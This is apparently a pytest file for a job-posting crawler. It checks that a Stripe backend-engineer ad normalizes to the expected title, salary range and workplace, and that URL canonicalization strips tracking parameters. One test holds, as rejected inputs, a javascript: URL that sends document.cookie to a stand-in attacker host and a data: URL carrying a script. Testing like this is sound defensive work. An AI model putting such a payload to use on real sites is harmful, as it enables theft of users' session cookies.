"""Normalizing the seed posting: the Stripe ad as an aggregator copied it and as Stripe's board serves it."""

from __future__ import annotations

from crawler.extract.greenhouse import extract_greenhouse
from crawler.items import RawPosting
from pipeline.normalize import normalize
from rolewatch.demo_boards import SEED_JOB_ID, board_before
from tests.conftest import DEMO_DATA

SEED_FILE = DEMO_DATA / "stripe-backend-engineer-core-technology.txt"


def seed_ad_text() -> str:
    """The ad itself: from "About Stripe" up to the aggregator's own "Key skills/competency" tail."""
    lines = SEED_FILE.read_text(encoding="utf-8").splitlines()
    start = lines.index("About Stripe")
    end = lines.index("Key skills/competency")
    return "\n".join(lines[start:end])


def test_seed_ad_normalizes_to_its_title_company_pay_and_workplace() -> None:
    raw = RawPosting(
        external_id="seed",
        title="Backend Engineer, Core Technology",
        company="Stripe",
        description_text=seed_ad_text(),
    )
    posting = normalize(raw)
    assert posting.title == "Backend Engineer, Core Technology"
    assert posting.company == "Stripe"
    assert (posting.salary_min, posting.salary_max) == (155700, 285600)
    assert (posting.salary_currency, posting.salary_period) == ("USD", "year")
    assert posting.workplace == ["hybrid", "remote"]


def test_seed_job_on_the_demo_board_normalizes_the_same() -> None:
    result = extract_greenhouse(board_before(), company="Stripe")
    raw = next(p for p in result.postings if p.external_id == str(SEED_JOB_ID))
    posting = normalize(raw)
    assert posting.title == "Backend Engineer, Core Technology"
    assert posting.company == "Stripe"
    assert (posting.salary_min, posting.salary_max, posting.salary_currency, posting.salary_period) == (
        155700,
        285600,
        "USD",
        "year",
    )
    assert posting.workplace == ["hybrid", "remote"]


def test_only_web_links_survive_normalization() -> None:
    from pipeline.normalize import canonical_url

    assert canonical_url("https://jobs.example.com/a?utm_source=x&id=1") == "https://jobs.example.com/a?id=1"
    assert canonical_url("javascript:fetch('//evil.example/'+document.cookie)//") is None
    assert canonical_url("data:text/html,<script>alert(1)</script>") is None
